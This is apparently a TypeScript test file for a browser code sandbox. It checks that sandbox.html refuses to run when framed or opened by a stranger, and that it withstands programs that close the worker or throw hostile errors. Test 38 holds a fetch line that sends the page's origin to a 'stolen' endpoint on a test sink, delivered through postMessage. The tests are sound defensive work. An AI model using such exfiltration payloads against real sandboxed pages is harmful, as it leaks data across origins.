/** The sandbox's own page in strange hands, and programs that end their runtime. */
import { expect, expectNextRunPasses, test } from "./support/attack-test";
import { entryProgram, gradeInPage, playInPage } from "./support/lab";
import { runPlain } from "./support/weak-runs";

const REFUSAL = "works only inside it";

test("38: sandbox.html opened by itself or framed by a stranger", async ({
  lab,
  weak,
  weakSite,
  sink,
  browser,
}) => {
  const sandboxUrl = new URL("sandbox.html", lab.url()).href;
  const steal = `fetch("${sink.url}/stolen?d=" + self.origin)`;

  // A runner page that does not look where it is runs a stranger's code with its own origin's rights.
  const context = await browser.newContext();
  const stranger = await context.newPage();
  await stranger.goto(sandboxUrl.replace("sandbox.html", "favicon.svg"));
  const naive = `${weakSite.url}naive-sandbox.html`;
  await weak.evaluate(
    async ([url, script]) => {
      const opened = window.open(url);
      await new Promise((resolve) => setTimeout(resolve, 800));
      opened?.postMessage({ script }, "*");
      await new Promise((resolve) => setTimeout(resolve, 800));
    },
    [naive, steal] as const,
  );
  expect(sink.hits().join()).toContain(`stolen?d=${new URL(weakSite.url).origin}`);
  sink.clear();

  // Opened by itself.
  await stranger.goto(sandboxUrl);
  expect(await stranger.textContent("body")).toContain(REFUSAL);

  // Opened as a window and as a plain frame of another site, and sent what the page would send.
  const answers = await weak.evaluate(
    async ([url, script]) => {
      const heard: string[] = [];
      addEventListener("message", ({ data, origin }) =>
        heard.push(`${origin} ${JSON.stringify(data)}`),
      );
      const frame = document.createElement("iframe");
      frame.src = url;
      document.body.append(frame);
      const opened = window.open(url);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      for (const target of [frame.contentWindow, opened]) {
        const channel = new MessageChannel();
        channel.port1.onmessage = ({ data }) => heard.push(JSON.stringify(data));
        target?.postMessage({ kind: "lab-sandbox-connect", nonce: "1", script }, "*", [
          channel.port2,
        ]);
        channel.port1.postMessage({ kind: "spawn", script });
      }
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      opened?.close();
      return heard;
    },
    [sandboxUrl, steal] as const,
  );
  expect(answers).toEqual([]);
  const framed = weak.frames().find((frame) => frame.url() === sandboxUrl);
  expect(await framed?.textContent("body")).toContain(REFUSAL);
  expect(sink.hits()).toEqual([]);
  await context.close();
});

test("46: ending the runtime, and errors that bite", async ({ lab, weak }) => {
  // A plain worker that closes itself says nothing, ever.
  const control = await runPlain(weak, "self.close();", 500);
  expect(control).toMatchObject({ answered: false, count: 0 });

  const closed = await gradeInPage(lab, {
    source: entryProgram("self.close();"),
    deadlineMs: 8_000,
  });
  expect(closed.status).toBe("died");
  expect(closed.ms.run).toBeLessThan(4_000);
  await expectNextRunPasses(lab);

  const biting = await gradeInPage(
    lab,
    entryProgram(
      `throw Object.defineProperty(new Error("x"), "message", { get() { throw new Error("bite"); } });`,
    ),
  );
  expect(biting.status).toBe("error");
  expect(biting.error?.message.length).toBeGreaterThan(0);

  const cyclic = await gradeInPage(
    lab,
    entryProgram(`const c: any = {}; c.self = c; return Promise.reject(c);`),
  );
  expect(cyclic.status).toBe("error");

  const looping = await gradeInPage(lab, {
    source: entryProgram(`throw { get message() { for (;;); }, toString() { for (;;); } };`),
    deadlineMs: 1_500,
  });
  expect(["timeout", "error"]).toContain(looping.status);

  const odd = await playInPage(lab, `throw null;`);
  expect(odd.ok).toBe(false);
  expect(odd.error).toContain("null");
  await expectNextRunPasses(lab);
});
